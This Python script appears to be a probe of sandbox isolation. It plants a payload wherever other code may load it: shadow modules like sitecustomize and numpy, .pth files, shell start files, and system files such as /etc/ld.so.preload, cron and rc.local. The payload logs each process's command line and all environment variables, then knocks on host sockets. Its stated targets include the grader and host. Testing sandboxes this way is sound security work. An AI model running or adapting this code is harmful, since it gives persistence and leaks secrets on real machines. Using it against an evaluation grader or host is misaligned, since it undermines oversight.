"""Plants code wherever somebody else may load it: later scripts, kernel, driver, shell, host or grader.

Loaded anywhere, it writes down by whom, with all variables, and knocks at the host's door.
"""

EVIL = f"""
import os, socket, sys
try:
    here = "/home/code/planted" if os.path.isdir("/home/code/planted") else os.path.dirname(os.path.abspath(__file__))
    with open(os.path.join(here, "executed.txt"), "a") as file:
        line = open("/proc/self/cmdline", "rb").read().replace(b"\\0", b" ").decode(errors="replace")
        file.write(f"pid {{os.getpid()}} uid {{os.getuid()}}: {{line}} {{sorted(os.environ.items())}}\\n")
    for name in {HINTS.get("abstract", [])!r}:
        with socket.socket(socket.AF_UNIX) as door:
            door.connect("\\0" + name)
except Exception:
    pass
"""
SHELL = 'echo "pid $$: shell start file" >> /home/code/planted/executed.txt\n'
VERSION = f"python{sys.version_info[0]}.{sys.version_info[1]}"
MODULES = (
    "sitecustomize", "usercustomize", "conftest", "numpy", "pandas", "sandbox", "benchmark", "json", "struct",
    "encodings", "ctypes", "resource", "zipimport", "ipykernel", "zmq", "IPython", "antigravity", "readline",
)  # fmt: skip
FOLDERS = (
    "/home", "/home/code", "/home/submission", "/home/logs", "/tmp", "/home/code/planted", "/run/shell", "/run",
    "/run/driver", f"/home/.local/lib/{VERSION}/site-packages", "/home/.ipython/profile_default/startup", "/dev/shm",
)  # fmt: skip
START_FILES = (
    ".bashrc",
    ".profile",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".inputrc",
    ".zshenv",
    ".env",
)


def plant(folder):
    """Every module in a folder."""
    written = 0
    for name in MODULES:
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, f"{name}.py"), "w") as file:
                file.write(EVIL)
            written += 1
        except OSError:
            pass
    return written


def packages():
    """Into the packages that every script, and perhaps the host, imports."""
    done = []
    for folder in [*sys.path, sys.prefix, *(os.path.join(p, "numpy") for p in sys.path)]:
        if (
            not folder
            or not folder.startswith("/")
            or folder.startswith(("/home/code", "/tmp", "/home/.local"))
        ):
            continue
        for name in ("sitecustomize.py", "attest_planted.pth", "__pycache__/numpy.pyc"):
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write(EVIL)
                done.append(os.path.join(folder, name))
            except OSError:
                pass
    return done


def start_files():
    """Files that shells and interpreters read when they start."""
    for name in START_FILES:
        with open(f"/home/{name}", "w") as file:
            file.write(SHELL)
    site = f"/home/.local/lib/{VERSION}/site-packages"
    os.makedirs(site, exist_ok=True)
    with open(f"{site}/planted.pth", "w") as file:
        file.write("import usercustomize\n")
    for name in ("pip/pip.conf", "matplotlib/matplotlibrc", "ipython/profile_default/ipython_config.py"):
        os.makedirs(os.path.dirname(f"/home/.config/{name}"), exist_ok=True)
        with open(f"/home/.config/{name}", "w") as file:
            file.write("")
    return ""


def system_files():
    """Start files of the whole system."""
    done = []
    for path in ("/etc/profile", "/etc/bash.bashrc", "/etc/ld.so.preload", "/etc/environment", "/etc/cron.d/attest",
                 "/var/spool/cron/root", "/etc/rc.local", "/etc/python3/sitecustomize.py"):  # fmt: skip
        try:
            with open(path, "a") as file:
                file.write(SHELL)
            done.append(path)
        except OSError:
            pass
    return done


os.makedirs("/home/code/planted", exist_ok=True)
for folder in FOLDERS:
    count = plant(folder)
    private = folder in ("/run", "/run/driver")
    claim(f"modules in {folder}", private and count > 0, f"{count} written")
attempt("modules among the packages", packages)
attempt("start files of the user", start_files)
attempt("start files of the system", system_files)
